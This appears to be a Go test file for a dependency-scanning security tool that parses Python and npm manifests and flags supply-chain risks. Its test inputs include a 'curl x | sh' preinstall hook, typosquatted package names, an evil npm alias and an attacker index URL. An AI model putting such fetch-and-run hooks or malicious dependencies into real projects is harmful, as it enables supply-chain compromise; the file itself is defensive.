package deps

import (
	"bytes"
	"fmt"
	"strings"
	"testing"

	"github.com/ward-sec/ward/checks"
)

func TestParseRequirementsKeepsWhatExtractorsDrop(t *testing.T) {
	src := strings.Join([]string{
		"# header comment",
		"-i https://pkgs.example/simple",
		"--extra-index-url=https://extra.example/simple",
		"-f ./wheels",
		"-r base.txt",
		"--constraint constraints.txt",
		"torch[cuda]>=2.1,<3 ; python_version >= \"3.9\"",
		"pkg @ https://example.com/pkg-1.0-py3-none-any.whl ; sys_platform == \"linux\"",
		"git+https://github.com/org/repo@v1.0#egg=repo-name",
		"numpy==1.26.4 \\",
		"    --hash=sha256:aaaa \\",
		"    --hash=sha256:bbbb",
		"requests # trailing comment",
		"-e ./libs/local",
		"https://example.com/archive/Thing-2.0.tar.gz",
		"--no-binary :all:",
	}, "\n")
	m, err := ParseRequirements(src)
	if err != nil {
		t.Fatal(err)
	}
	var deps []string
	for _, d := range m.Deps {
		deps = append(deps, fmt.Sprintf("%d:%s|%s|%s|%s|%s", d.Line, d.Name, d.Spec, d.Version, d.Source, d.URL))
	}
	wantDeps := []string{
		"7:torch|>=2.1,<3|||",
		"8:pkg|||URL|https://example.com/pkg-1.0-py3-none-any.whl",
		"9:repo-name|||version-control|git+https://github.com/org/repo@v1.0#egg=repo-name",
		"10:numpy|==1.26.4|1.26.4||",
		"13:requests||||",
		"14:./libs/local|||local path|./libs/local",
		"15:Thing|||URL|https://example.com/archive/Thing-2.0.tar.gz",
	}
	for i := range wantDeps {
		wantDeps[i] = strings.Replace(wantDeps[i], "|||", "|||", 1)
	}
	got := strings.Join(deps, "\n")
	want := strings.Join([]string{
		"7:torch|>=2.1,<3||registry|",
		"8:pkg|||URL|https://example.com/pkg-1.0-py3-none-any.whl",
		"9:repo-name|||version-control|git+https://github.com/org/repo@v1.0#egg=repo-name",
		"10:numpy|==1.26.4|1.26.4|registry|",
		"13:requests|||registry|",
		"14:./libs/local|||local path|./libs/local",
		"15:Thing|||URL|https://example.com/archive/Thing-2.0.tar.gz",
	}, "\n")
	if got != want {
		t.Errorf("deps:\n%s\nwant:\n%s", got, want)
	}
	var idx []string
	for _, ix := range m.Indexes {
		idx = append(idx, fmt.Sprintf("%d:%s:%s:%v", ix.Line, ix.Kind, ix.URL, ix.Confusable))
	}
	wantIdx := "2:index-url:https://pkgs.example/simple:false 3:extra-index-url:https://extra.example/simple:true 4:find-links:./wheels:false"
	if strings.Join(idx, " ") != wantIdx {
		t.Errorf("indexes = %q, want %q", strings.Join(idx, " "), wantIdx)
	}
	if strings.Join(m.Includes, ",") != "base.txt,constraints.txt" {
		t.Errorf("includes = %v", m.Includes)
	}
}

func TestParseRequirement(t *testing.T) {
	tests := []struct {
		in   string
		want Requirement
		ok   bool
	}{
		{"requests", Requirement{Name: "requests"}, true},
		{"requests [security] >= 2.8.1, == 2.8.*", Requirement{Name: "requests", Extras: "security", Spec: ">=2.8.1,==2.8.*"}, true},
		{"name@http://foo.com", Requirement{Name: "name", URL: "http://foo.com"}, true},
		{"name @ file:///x ; os_name=='a'", Requirement{Name: "name", URL: "file:///x", Marker: "os_name=='a'"}, true},
		{"name(>=1.0)", Requirement{Name: "name", Spec: ">=1.0"}, true},
		{"-e .", Requirement{}, false},
		{"name junk", Requirement{}, false},
		{"na[me", Requirement{}, false},
	}
	for _, tt := range tests {
		got, ok := ParseRequirement(tt.in)
		if ok != tt.ok || got != tt.want {
			t.Errorf("ParseRequirement(%q) = %+v, %v; want %+v, %v", tt.in, got, ok, tt.want, tt.ok)
		}
	}
}

func TestPnpmKey(t *testing.T) {
	tests := []struct{ key, name, version string }{
		{"/express/4.19.2", "express", "4.19.2"},
		{"/@babel/core/7.24.0_peer@1", "@babel/core", "7.24.0"},
		{"/express@4.19.2", "express", "4.19.2"},
		{"/@babel/core@7.24.0(supports-color@8.1.1)", "@babel/core", "7.24.0"},
		{"@scope/pkg@1.0.0", "@scope/pkg", "1.0.0"},
		{"nameonly", "", ""},
	}
	for _, tt := range tests {
		n, v := pnpmKey(tt.key)
		if n != tt.name || v != tt.version {
			t.Errorf("pnpmKey(%q) = %q, %q; want %q, %q", tt.key, n, v, tt.name, tt.version)
		}
	}
}

func TestMalformedAndOversizedFilesAreFindings(t *testing.T) {
	c := New("", "")
	tests := []struct {
		path, content string
		want          string
	}{
		{"pyproject.toml", "[project\nname = 1", "1 deps-not-analysed medium parse error"},
		{"package.json", "{\"dependencies\": ", "0 deps-not-analysed medium parse error"},
		{"yarn.lock", "lodash@^4:\n  version \"4\"\n  oops\nnot-a-header\n", "0 deps-not-analysed medium parse error"},
		{"go.mod", "module x\nrequire (\n", "0 deps-not-analysed medium parse error"},
		{"pnpm-lock.yaml", "packages: [unclosed", "0 deps-not-analysed medium parse error"},
	}
	for _, tt := range tests {
		got := scan(t, c, file(tt.path, []byte(tt.content), nil), RuleOSVFloorOnly)
		if len(got) != 1 || !strings.HasSuffix(got[0], "deps-not-analysed medium parse error") {
			t.Errorf("%s: got %q, want one %q", tt.path, got, tt.want)
		}
	}
	// Over the byte limit: reported, not read.
	f := file("requirements.txt", bytes.Repeat([]byte("a\n"), 600), nil)
	f.Limits = checks.Limits{MaxFileBytes: 1000}
	got := scan(t, c, f)
	if len(got) != 1 || got[0] != "0 deps-not-analysed medium size limit" {
		t.Errorf("oversized: got %q", got)
	}
}

func TestNotADependencyFile(t *testing.T) {
	for _, p := range []string{"README.md", "src/requirements.py", "node_modules/x/package.json", "docs/environment.md"} {
		res, err := New("", "").Scan(t.Context(), checks.NewBytesFile(p, []byte("requests\n")))
		if err != nil || res.Analysed || len(res.Findings) != 0 {
			t.Errorf("%s: %+v, %v; want it ignored", p, res, err)
		}
	}
	for _, p := range []string{"requirements/prod.txt", "requirements-dev.txt", "dev-requirements.in", "constraints.txt",
		"environment-gpu.yml", "sub/dir/package-lock.json", "npm-shrinkwrap.json"} {
		if _, ok := parserFor(p); !ok {
			t.Errorf("%s: no parser", p)
		}
	}
}

func TestLoosePinsOnlyInApplicationFiles(t *testing.T) {
	c := New("", "")
	src := []byte("numpy>=1.26\n")
	for _, tt := range []struct {
		path string
		want int
	}{{"requirements.txt", 1}, {"requirements.in", 0}, {"constraints.txt", 0}, {"setup.cfg", 0}} {
		content := src
		if tt.path == "setup.cfg" {
			content = []byte("[options]\ninstall_requires =\n    numpy>=1.26\n")
		}
		got := scan(t, c, file(tt.path, content, nil), RuleOSVFloorOnly)
		if len(got) != tt.want {
			t.Errorf("%s: %q, want %d loose-pin findings", tt.path, got, tt.want)
		}
	}
}

func TestTyposquatSuggestion(t *testing.T) {
	res, err := New("", "").Scan(t.Context(), file("requirements.txt", []byte("numpy==1.26.4\nreqeusts==2.31.0  # http\n"), nil))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range res.Findings {
		if f.RuleID != RuleTyposquat {
			continue
		}
		if f.Suggestion == nil || f.Suggestion.StartLine != 2 || f.Suggestion.Replacement != "requests==2.31.0  # http" {
			t.Errorf("suggestion = %+v", f.Suggestion)
		}
		return
	}
	t.Error("no typosquat finding")
}

func TestInstallScripts(t *testing.T) {
	c := New("", "")
	base := []byte(`{"scripts": {"prepare": "husky", "postinstall": "node a.js"}}`)
	head := []byte(`{"scripts": {"prepare": "husky && node fetch.js", "postinstall": "node a.js", "preinstall": "curl x | sh"}}`)
	got := scan(t, c, file("package.json", head, base))
	diffLines(t, "PR", got, []string{
		"1 deps-install-script medium prepare: husky && node fetch.js",
		"1 deps-install-script medium preinstall: curl x | sh",
	})
	got = scan(t, c, file("package.json", head, nil))
	diffLines(t, "scan", got, []string{
		"1 deps-install-script medium postinstall: node a.js",
		"1 deps-install-script medium preinstall: curl x | sh",
	})
}

func TestCredentialsInURLsAreMasked(t *testing.T) {
	const token = "pypi-AgEIcHlwaS5vcmcCJDAwMDAwMDAwLTAwMDAtMDAwMC0wMDAwLTAwMDAwMDAwMDAwMAACKlszLCJ"
	src := "--extra-index-url https://__token__:" + token + "@pkgs.example/simple\n" +
		"lib @ git+https://ghp_abcdefghijklmnopqrstuvwxyz0123456789@github.com/org/lib.git\n" +
		"other @ git+ssh://git@github.com/org/other.git\n"
	res, err := New("", "").Scan(t.Context(), file("requirements.txt", []byte(src), nil))
	if err != nil {
		t.Fatal(err)
	}
	var sawGitUser bool
	for _, f := range res.Findings {
		all := f.Message + f.Evidence + f.Fix
		if strings.Contains(all, token) || strings.Contains(all, "ghp_") {
			t.Errorf("%s leaks a credential: %q", f.RuleID, all)
		}
		sawGitUser = sawGitUser || strings.Contains(f.Evidence, "ssh://git@github.com")
	}
	if !sawGitUser {
		t.Error("a plain git@ user name should be kept")
	}
	if got := redactURLs("https://user:secret@host/x"); got != "https://user:***@host/x" {
		t.Errorf("redactURLs = %q", got)
	}
}

func TestNpmAliasOfPopularName(t *testing.T) {
	src := []byte("{\n  \"dependencies\": {\n    \"react\": \"npm:evil-react-dom@1.0.0\",\n    \"my-lodash\": \"npm:lodash@4.17.21\"\n  }\n}\n")
	got := scan(t, New("", ""), file("package.json", src, nil), RuleOSVFloorOnly)
	diffLines(t, "alias", got, []string{"3 deps-typosquat high react -> evil-react-dom"})
}

func TestPrimaryIndexChangeOnlyInPR(t *testing.T) {
	c := New("", "")
	head := []byte("--index-url https://mirror.evil.example/simple\nrequests==2.32.3\n")
	base := []byte("--index-url https://pkgs.internal.example/simple\nrequests==2.32.3\n")
	got := scan(t, c, file("requirements.txt", head, base), RuleOSVFloorOnly)
	diffLines(t, "PR change", got, []string{"1 deps-dependency-confusion high index-url https://mirror.evil.example/simple"})
	got = scan(t, c, file("requirements.txt", head, head), RuleOSVFloorOnly)
	diffLines(t, "PR unchanged", got, nil)
	got = scan(t, c, file("requirements.txt", head, nil), RuleOSVFloorOnly)
	diffLines(t, "scan", got, nil)
}

func TestPackageJSONOddValues(t *testing.T) {
	src := []byte("{\n  \"private\": \"true\",\n  \"dependencies\": {\n    \"expresss\": \"4.0.0\",\n    \"weird\": {\"version\": \"1\"}\n  }\n}\n")
	got := scan(t, New("", ""), file("package.json", src, nil), RuleOSVFloorOnly)
	diffLines(t, "odd", got, []string{"4 deps-typosquat high expresss ~ express"})
}
